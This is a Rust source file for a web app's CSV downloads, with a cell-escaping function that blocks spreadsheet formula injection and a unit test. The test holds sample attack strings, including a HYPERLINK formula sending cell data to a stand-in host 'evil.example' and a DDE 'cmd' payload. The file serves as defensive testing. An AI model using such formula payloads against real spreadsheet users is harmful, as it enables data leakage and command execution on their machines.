//! CSV downloads: every table a page shows can be had with `?format=csv`, its cells safe to open
//! in a spreadsheet and its numbers at full precision.

use axum::http::header;
use axum::response::{IntoResponse, Response};

/// A CSV download: header row, then rows; cells are quoted when they need to be.
pub(crate) fn csv(filename: &str, header_row: &[&str], rows: Vec<Vec<String>>) -> Response {
    let mut out = header_row.iter().map(|h| csv_cell(h)).collect::<Vec<_>>().join(",");
    out.push('\n');
    for r in rows {
        out.push_str(&r.iter().map(|c| csv_cell(c)).collect::<Vec<_>>().join(","));
        out.push('\n');
    }
    (
        [
            (header::CONTENT_TYPE, "text/csv; charset=utf-8".to_string()),
            (header::CONTENT_DISPOSITION, format!("attachment; filename=\"{filename}\"")),
        ],
        out,
    )
        .into_response()
}

/// One CSV cell, safe to open in a spreadsheet: text that a spreadsheet would read as a formula
/// (starting `=`, `+`, `-`, `@`, tab or CR, as OWASP lists) gets a leading `'`, unless it is just a
/// number such as `-2.5`; a cell holding a comma, quote, LF or CR is quoted.
pub(crate) fn csv_cell(c: &str) -> String {
    let formula = c.starts_with(['=', '+', '-', '@', '\t', '\r']) && c.parse::<f64>().is_err();
    let c = if formula { format!("'{c}") } else { c.to_string() };
    if c.contains([',', '"', '\n', '\r']) { format!("\"{}\"", c.replace('"', "\"\"")) } else { c }
}

/// A number for a CSV cell: full precision, empty when absent.
pub(crate) fn csv_number(v: Option<f64>) -> String {
    v.map(|v| v.to_string()).unwrap_or_default()
}

/// The header cells of [`point_csv`], in its order.
pub(crate) const POINT_COLUMNS: [&str; 4] = ["numerator", "denominator", "value", "percentile"];

/// A CSV header of the `lead` columns, a measure value's four ([`POINT_COLUMNS`]), then `tail`:
/// every measure download puts them in this order.
pub(crate) fn point_header<'a>(lead: &[&'a str], tail: &[&'a str]) -> Vec<&'a str> {
    lead.iter().chain(POINT_COLUMNS.iter()).chain(tail).copied().collect()
}

/// A measure value's numerator, denominator, value and percentile as CSV cells (empty when
/// there is no value or it is suppressed), in the order every measure CSV gives them.
pub(crate) fn point_csv(pt: Option<&ipmo_measures::analysis::ValuePoint>) -> [String; 4] {
    [
        csv_number(pt.and_then(|x| x.numerator())),
        csv_number(pt.and_then(|x| x.denominator())),
        csv_number(pt.and_then(|x| x.value())),
        csv_number(pt.and_then(|x| x.percentile())),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn csv_cells_cannot_carry_formulas_or_split_rows() {
        assert_eq!(
            csv_cell(r#"=HYPERLINK("http://evil.example/?"&A1,"click")"#),
            r#""'=HYPERLINK(""http://evil.example/?""&A1,""click"")""#
        );
        assert_eq!(csv_cell("-2+3+cmd|' /C calc'!A0"), "'-2+3+cmd|' /C calc'!A0");
        assert_eq!(csv_cell("@SUM(A1)"), "'@SUM(A1)");
        assert_eq!(csv_cell("+44 20"), "'+44 20");
        assert_eq!(csv_cell("\tx"), "'\tx");
        assert_eq!(csv_cell("CRtest\r=2+2"), "\"CRtest\r=2+2\"");
        // Numbers, negative ones included, stay numbers.
        assert_eq!(
            (csv_cell("-2.5"), csv_cell("1e3"), csv_cell("St Mary's")),
            ("-2.5".into(), "1e3".into(), "St Mary's".into())
        );
    }
}
